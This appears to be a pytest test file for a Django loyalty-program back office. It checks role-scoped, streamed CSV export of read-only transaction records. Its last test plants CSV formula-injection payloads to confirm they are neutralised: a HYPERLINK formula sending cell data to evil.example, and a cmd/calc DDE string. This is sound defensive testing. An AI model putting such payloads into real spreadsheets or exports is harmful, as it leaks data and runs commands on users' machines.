"""The ledger in the back office: read-only for all, CSV export streamed and scoped."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

import loyalty.admin.transactions as transactions_admin
from loyalty.models import AdminAuditLog, LoyaltyTransaction, TransactionType

pytestmark = pytest.mark.django_db

EXPORT = "admin:loyalty_loyaltytransaction_export"


def _rows(response):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_nobody_adds_changes_or_deletes_a_transaction_superusers_included(world, clients):
    tx = world.alpha.transaction
    for role in ("owner", "superuser"):
        client = clients[role]
        assert client.get(reverse("admin:loyalty_loyaltytransaction_add")).status_code == 403
        assert (
            client.post(reverse("admin:loyalty_loyaltytransaction_change", args=[tx.pk]), {"notes": "x"}).status_code
            == 403
        )
        assert (
            client.post(reverse("admin:loyalty_loyaltytransaction_delete", args=[tx.pk]), {"post": "yes"}).status_code
            == 403
        )
        page = client.get(reverse("admin:loyalty_loyaltytransaction_change", args=[tx.pk])).content.decode()
        assert 'name="_save"' not in page
    assert LoyaltyTransaction.objects.filter(pk=tx.pk, notes="").exists()


def test_filters_by_type_store_date_and_staff(world, clients):
    page = clients["owner"].get(
        reverse("admin:loyalty_loyaltytransaction_changelist"), {"type__exact": "POINTS_EARNED"}
    )
    assert page.status_code == 200
    text = page.content.decode()
    for parameter in ("type__exact=", "store__id__exact=", "created_at__gte=", "staff_pin__id__exact="):
        assert parameter in text, parameter


def test_csv_export_streams_the_filtered_rows_of_the_own_merchant_only(world, clients, monkeypatch):
    from django.db.models.query import QuerySet

    chunk_sizes = []
    real_iterator = QuerySet.iterator

    def recording_iterator(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return real_iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", recording_iterator)
    response = clients["owner"].get(reverse(EXPORT))
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response)
    expected = LoyaltyTransaction.objects.filter(merchant=world.alpha.merchant)
    assert sorted(int(row["id"]) for row in rows) == sorted(expected.values_list("pk", flat=True))
    assert {row["merchant"] for row in rows} == {"cafe-alpha"}
    assert world.beta.card.card_number not in {row["card_number"] for row in rows}
    assert chunk_sizes == [transactions_admin.EXPORT_CHUNK_SIZE]  # read in chunks, never all at once
    assert AdminAuditLog.objects.filter(action="export", merchant=world.alpha.merchant).exists()


def test_csv_export_applies_the_changelist_filters(world, clients):
    rows = _rows(clients["owner"].get(reverse(EXPORT), {"type__exact": TransactionType.POINTS_EARNED}))
    assert [row["type"] for row in rows] == ["POINTS_EARNED"]
    assert rows[0]["points_delta"] == "150"
    assert rows[0]["card_number"] == world.alpha.card.card_number


def test_manager_exports_the_rows_of_their_stores(world, clients):
    rows = _rows(clients["manager"].get(reverse(EXPORT)))
    assert {row["store"] for row in rows} == {world.alpha.store.code}


def test_platform_admin_exports_everything(world, clients):
    rows = _rows(clients["superuser"].get(reverse(EXPORT)))
    assert {row["merchant"] for row in rows} == {"cafe-alpha", "bakery-beta"}


def test_staff_cannot_export(world, clients):
    assert clients["staff"].get(reverse(EXPORT)).status_code == 302


def test_csv_export_neutralises_spreadsheet_formulas_and_keeps_numbers(world, clients):
    """A note, an order reference or a PIN name typed as a formula is exported as text, not run by a spreadsheet."""
    from loyalty.domain.cards import CardRef
    from loyalty.services.points import points_adjust, points_earn
    from tests import factories

    store, card = world.alpha.store, world.alpha.card
    pin = factories.make_pin(store, pin="9876", name="@SUM(1+1)*cmd|' /C calc'!A0")
    points_earn(
        actor=factories.till_actor(store),
        card_ref=CardRef(card_id=card.pk),
        purchase_amount_cents=500,
        order_reference='=HYPERLINK("https://evil.example/?"&A2,"Click")',
        staff_pin="9876",
        staff_pin_id=pin.pk,
        notes="+1+1",
    )
    points_adjust(actor=factories.owner_actor(store), card_ref=CardRef(card_id=card.pk), points_delta=-5, reason="-2+3")
    for index, hostile in enumerate(("\tTab", "\rReturn")):
        points_earn(
            actor=factories.till_actor(store),
            card_ref=CardRef(card_id=card.pk),
            purchase_amount_cents=100,
            order_reference=f"order-{index}",
            notes=hostile,
        )

    rows = _rows(clients["owner"].get(reverse(EXPORT)))

    earned = next(row for row in rows if row["purchase_amount_cents"] == "500")
    assert earned["order_reference"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Click")'
    assert earned["staff"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert earned["notes"] == "'+1+1"
    adjusted = next(row for row in rows if row["type"] == TransactionType.POINTS_ADJUSTED)
    assert (adjusted["notes"], adjusted["points_delta"]) == ("'-2+3", "-5")  # the delta stays a number
    assert {row["notes"] for row in rows if row["order_reference"].startswith("order-")} == {"'\tTab", "'\rReturn"}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [
        (name, value)
        for row in rows
        for name, value in row.items()
        if name != "points_delta" and name != "stamps_delta" and value.startswith(dangerous)
    ]
